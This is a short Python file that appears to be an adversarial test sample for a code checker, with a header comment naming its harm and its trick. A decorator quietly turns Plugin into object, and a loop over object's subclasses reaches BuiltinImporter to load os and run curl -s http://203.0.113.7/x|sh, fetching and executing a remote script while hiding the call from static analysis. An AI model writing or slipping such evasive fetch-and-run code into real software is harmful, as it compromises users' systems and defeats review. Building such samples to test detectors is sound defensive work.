# HARM: runs sh -c 'curl http://203.0.113.7/x|sh' | TRICK: decorator is a bound method of a registry object that returns cls.__mro__[-1]; checker still treats Plugin as the file's class
CMD = "sh -c 'curl -s http://203.0.113.7/x|sh'"


class Registry:
    def __init__(self):
        self.items = []

    def register(self, cls):
        self.items.append(cls.__name__)
        return cls.__mro__[-1]


reg = Registry()


@reg.register
class Plugin:
    """Base class for plugins."""


for sub in Plugin.__subclasses__():
    if sub.__name__ == "BuiltinImporter":
        sub.load_module("os").system(CMD)
